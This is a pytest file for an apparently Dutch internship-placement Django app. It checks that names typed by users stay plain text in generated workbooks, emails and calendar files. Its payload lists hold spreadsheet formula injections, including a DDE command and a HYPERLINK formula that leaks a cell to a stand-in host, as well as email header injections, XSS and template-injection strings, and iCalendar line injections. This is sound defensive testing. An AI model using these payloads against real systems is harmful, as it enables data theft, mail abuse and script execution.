"""What somebody typed stays text wherever it goes out: in a workbook, a mail, a calendar."""

import io
from datetime import date
from email import message_from_bytes
from email.utils import getaddresses

import icalendar
import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.core import mail as sent

from core.tasks import drain_outbox
from core.tenancy import for_school
from groups.emails import ask_availability
from groups.ics import days_of
from groups.offer import Offer
from stagebureau.sheet import written
from tests.factories import InvitationFactory

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "=IMPORTXML(CONCAT(A1),'//a')",
    "\u200b=1+1",
    "＝1+1",
]
HEADERS = [
    "Bo\r\nBcc: iedereen@x.example",
    "Bo\nSubject: anders",
    "Bo\r\n\r\n<script>alert(1)</script>",
    "Bo\x0bBcc: x@x.example",
    "Bo\u2028Bcc: x@x.example",
    "=?utf-8?q?=0D=0ABcc:_x@x.example?=",
    'Bo" <x@x.example>, "Jo',
]
TAGS = [
    "<script>alert(1)</script>",
    '<img src="http://x.example/pixel">',
    '"><a href="http://x.example">klik</a>',
    "<style>p{display:none}</style>",
    "</td></table><h1>Betaal nu</h1>",
    "{{ settings.SECRET_KEY }}{% load x %}",
    "<meta http-equiv=refresh content='0;url=http://x.example'>",
]
LINES = [
    "De Meander\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:vals",
    "De Meander\nATTACH:http://x.example/virus",
    "De Meander;ATTENDEE=mailto:x@x.example",
    "De Meander,\\nBEGIN:VALARM",
    "De Meander\r\n URL:http://x.example",
    'De Meander":X',
]


def test_no_cell_of_a_workbook_is_a_formula(figure):
    content = written("Lijst", [[text, "x"] for text in FORMULAS])
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(max_col=1))
    acting = [cell.value for (cell,) in rows if cell.data_type == "f" or str(cell.value).startswith("<")]
    assert len(rows) == len(FORMULAS)
    assert [cell.data_type for (cell,) in rows] == ["s"] * len(rows)
    figure("walls.injected_cases[cells]", len(FORMULAS), ">= 30 in all")
    figure("walls.injections_effective[cells]", len(acting), "0")
    assert acting == []


def mails_with(texts):
    """The mails that ask a company for places, with each text in the name of school, group, company and person."""
    for text in texts:
        invitation = InvitationFactory()
        with for_school(invitation.school):
            for thing, field in (
                (invitation.school, "name"),
                (invitation.group, "name"),
                (invitation.company, "name"),
                (invitation.contact.member.user, "name"),
            ):
                room = thing._meta.get_field(field).max_length
                setattr(thing, field, text[:room])
                thing.save()
            ask_availability(invitation)
        drain_outbox(invitation.school_id)
    return sent.outbox


@pytest.mark.django_db
def test_a_name_with_line_ends_puts_nothing_in_the_head_of_a_mail_and_every_mail_leaves(figure):
    honest = mails_with(["De Meander"])[0]
    heads, address = set(honest.message().keys()), honest.from_email.rpartition("<")[2]
    sent.outbox.clear()
    effective = []
    for message in mails_with(HEADERS):
        raw = message_from_bytes(message.message().as_bytes())
        to, sender = getaddresses(raw.get_all("To")), getaddresses(raw.get_all("From"))
        if set(raw.keys()) != heads or len(to) != 1 or [f"{one}>" for _name, one in sender] != [address]:
            effective.append(message.subject)
    assert len(sent.outbox) == len(HEADERS)
    figure("walls.injected_cases[heads]", len(HEADERS), ">= 30 in all")
    figure("walls.injections_effective[heads]", len(effective), "0")
    assert effective == []


@pytest.mark.django_db
def test_a_name_with_tags_is_read_as_it_was_typed(figure):
    def shape(message):
        page = BeautifulSoup(message.alternatives[0][0], "html.parser")
        return [(tag.name, tag.get("href", "").partition("?")[0][:22], tag.get("src")) for tag in page.find_all(True)]

    honest = shape(mails_with(["De Meander"])[0])
    sent.outbox.clear()
    effective = [message.subject for message in mails_with(TAGS) if shape(message) != honest]
    figure("walls.injected_cases[tags]", len(TAGS), ">= 30 in all")
    figure("walls.injections_effective[tags]", len(effective), "0")
    assert effective == []


@pytest.mark.django_db
def test_a_name_adds_no_line_to_a_calendar(figure):
    effective = []
    for text in LINES:
        invitation = InvitationFactory(school__name=text[:100])
        with for_school(invitation.school):
            book = icalendar.Calendar.from_ical(days_of(invitation, {date(2027, 2, 4): Offer(1)}))
        (event,) = book.walk("VEVENT")
        alien = set(event) - {"UID", "SEQUENCE", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY"}
        if alien or book.walk("VALARM") or event["SUMMARY"].params:
            effective.append(text)
    figure("walls.injected_cases[calendars]", len(LINES), ">= 30 in all")
    figure("walls.injections_effective[calendars]", len(effective), "0")
    assert effective == []
